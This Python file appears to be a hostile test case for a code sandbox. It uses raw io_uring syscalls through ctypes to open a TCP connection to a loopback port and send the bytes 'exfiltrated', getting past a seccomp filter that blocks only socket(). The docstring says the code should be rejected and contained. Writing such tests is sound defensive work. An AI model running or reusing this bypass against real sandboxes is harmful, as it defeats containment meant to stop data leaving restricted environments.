"""Hostile: io_uring_connect. Opens a TCP connection to a loopback listener and sends data through
io_uring (raw syscalls via ctypes), which a seccomp filter that only denies socket() does not stop: the
kernel's io_uring workers create and connect the socket. Must be rejected and contained."""
import ctypes
import mmap
import socket
import struct

SYS_SETUP, SYS_ENTER = 425, 426
OFF_SQ_RING, OFF_CQ_RING, OFF_SQES = 0, 0x8000000, 0x10000000
OP_CONNECT, OP_SEND, OP_SOCKET = 16, 26, 45
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


class Ring:
    def __init__(self):
        params = ctypes.create_string_buffer(120)
        self.fd = libc.syscall(SYS_SETUP, 8, params)
        if self.fd < 0:
            raise OSError(ctypes.get_errno(), "io_uring_setup failed")
        f = struct.unpack_from("=7I3I", params.raw, 0)
        sq_entries, cq_entries = f[0], f[1]
        sq = struct.unpack_from("=8IQ", params.raw, 40)   # head tail mask entries flags dropped array
        cq = struct.unpack_from("=8IQ", params.raw, 80)   # head tail mask entries overflow cqes flags
        self.sq_ring = mmap.mmap(self.fd, sq[6] + sq_entries * 4, offset=OFF_SQ_RING)
        self.cq_ring = mmap.mmap(self.fd, cq[5] + cq_entries * 16, offset=OFF_CQ_RING)
        self.sqes = mmap.mmap(self.fd, sq_entries * 64, offset=OFF_SQES)
        self.sq, self.cq = sq, cq

    def call(self, opcode, fd, addr=0, length=0, off=0):
        """Submit one operation and wait for its completion; the kernel's result (fd or -errno)."""
        tail = struct.unpack_from("=I", self.sq_ring, self.sq[1])[0]
        mask = struct.unpack_from("=I", self.sq_ring, self.sq[2])[0]
        index = tail & mask
        sqe = struct.pack("=BBHiQQIIQHHi16x", opcode, 0, 0, fd, off, addr, length, 0, 7, 0, 0, 0)
        self.sqes[index * 64:index * 64 + 64] = sqe
        struct.pack_into("=I", self.sq_ring, self.sq[6] + index * 4, index)
        struct.pack_into("=I", self.sq_ring, self.sq[1], tail + 1)
        if libc.syscall(SYS_ENTER, self.fd, 1, 1, 1, None, 0) < 0:
            raise OSError(ctypes.get_errno(), "io_uring_enter failed")
        head = struct.unpack_from("=I", self.cq_ring, self.cq[0])[0]
        cmask = struct.unpack_from("=I", self.cq_ring, self.cq[2])[0]
        res = struct.unpack_from("=Qi", self.cq_ring, self.cq[5] + (head & cmask) * 16)[1]
        struct.pack_into("=I", self.cq_ring, self.cq[0], head + 1)
        return res


def attack(port):
    ring = Ring()
    sock = ring.call(OP_SOCKET, socket.AF_INET, length=0, off=socket.SOCK_STREAM)
    if sock < 0:
        return f"socket: errno {-sock}"
    addr = ctypes.create_string_buffer(struct.pack("!HH4s8x", socket.AF_INET, port, bytes([127, 0, 0, 1])))
    struct.pack_into("=H", addr, 0, socket.AF_INET)
    res = ring.call(OP_CONNECT, sock, ctypes.addressof(addr), 0, 16)
    if res < 0:
        return f"connect: errno {-res}"
    data = ctypes.create_string_buffer(b"exfiltrated")
    res = ring.call(OP_SEND, sock, ctypes.addressof(data), 11)
    return f"sent {res}"


def run(inputs):
    try:
        result = attack(inputs["params"].get("port", 9))
    except OSError as exc:
        result = f"blocked: {exc}"
    return {"result": result}
